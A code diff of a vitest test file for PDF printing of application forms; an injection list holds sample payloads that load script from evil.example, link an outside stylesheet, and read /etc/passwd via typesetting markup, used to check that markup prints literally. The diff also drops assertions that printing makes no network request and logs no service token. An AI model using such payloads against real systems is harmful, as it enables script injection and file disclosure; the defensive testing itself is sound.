@@ -5,20 +5,18 @@ import { join } from 'node:path'
 import { draftOf } from '@apply/engine/answers'
 import { readOnlyView } from '@apply/engine/read-only'
 import { form } from '@apply/forms/governors-choice'
-import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
+import { afterAll, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest'
 import { complete } from '../../../forms/governors-choice/testing/applicant.ts'
 import { onEachDatabase, testDatabase } from '../../testing/databases.ts'
 import { completeAnswers } from '../applications/testing/complete-answers.ts'
 import { plainPdf } from '../documents/testing/pdfs.ts'
-import { builtPages } from './testing/built-pages.ts'
 import { type PdfStudent, type PdfWorld, pdfWorld } from './testing/pdf-world.ts'
 import { type PrintWorld, printWorld } from './testing/print-world.ts'
 import { readCopy, withoutSpace } from './testing/read-copy.ts'
 
-const pages = builtPages()
 let world: PrintWorld
 beforeAll(async () => {
-  world = await printWorld(await testDatabase('PGlite'), pages())
+  world = await printWorld(await testDatabase('PGlite'))
 }, 60_000)
 afterAll(() => world.close())
 
@@ -148,35 +146,43 @@ const injections = [
   '"><svg/onload=import("http://evil.example/4")>',
   '</title><link rel=stylesheet href=http://evil.example/5.css>',
   'javascript:alert(1) {{7*7}} <%= 7*7 %> <!--',
-  '@import url(http://evil.example/6);',
+  '= Heading *bold* _slanted_ `raw` $x^2$ <label> @reference',
+  '#panic("out") #read("/etc/passwd") #import "@preview/cetz:0.4.0"',
+  '"; \\u{41} \\ // /* comment */ #{1 + 1} [x]',
 ]
 
-test('PDF-08 what looks like markup or code is printed as typed and causes no request', async () => {
+test('PDF-08 what looks like markup or code is printed as typed', async () => {
   const answers = { first_name: injections[0] ?? '', suspended: 'Y', suspended_comment: injections.join('\n') }
 
   const copy = await readCopy(await world.print(await world.applicant(draftOf(answers))))
 
   const text = withoutSpace(copy.pages.map((page) => page.text).join(' '))
   for (const injection of injections) expect(text).toContain(withoutSpace(injection))
-  expect(world.requests()).toEqual(['GET https://apply.example.edu'])
 })
 
-test('PDF-04 PDF-09 a print uses one service token, which is gone afterwards, and leaves an audit row', async () => {
+test('PDF-04 a print reads the one application it is for, and no token is made for it', async () => {
   const { sql } = await testDatabase('PGlite')
-  const applicant = await world.applicant(draftOf({ first_name: 'Ada' }))
+  // Whatever is written into this table is refused from here on.
+  await sql(`alter table service_tokens add constraint no_token_is_made check (account_id is null) not valid`)
+  onTestFinished(() => sql('alter table service_tokens drop constraint no_token_is_made').then(() => undefined))
+  const [ada, max] = await Promise.all(['Ada', 'Max'].map((first_name) => world.applicant(draftOf({ first_name }))))
 
-  await world.print(applicant)
+  const texts = await Promise.all(
+    [ada, max].map(async (applicant = '') => {
+      const { pages } = await readCopy(await world.print(applicant))
+      return pages.map(({ text }) => text).join(' ')
+    }),
+  )
 
-  expect(await sql('select 1 from service_tokens where account_id = $1', [applicant])).toEqual([])
-  expect(await sql('select action, result from audit where target = $1', [`account ${applicant}`])).toEqual([
-    { action: 'service view', result: 'shown' },
-  ])
+  expect(texts).toEqual([expect.stringContaining('Ada'), expect.stringContaining('Max')])
+  expect(texts[0]).not.toContain('Max')
+  expect(texts[1]).not.toContain('Ada')
 })
 
 onEachDatabase('a student who asks for a copy', (use) => {
   let whole: PdfWorld
   beforeAll(async () => {
-    whole = await pdfWorld(use(), { pages: pages() })
+    whole = await pdfWorld(use(), { prints: true })
   }, 60_000)
   afterAll(() => whole.close())
 
@@ -207,6 +213,5 @@ onEachDatabase('a student who asks for a copy', (use) => {
       expect(withoutSpace(foot)).toContain(receipt.sha256)
     }
     expect(proof.pages[0]?.text).toContain("O'Neil-")
-    expect(whole.logged()).not.toMatch(/service_token=/)
   })
 })
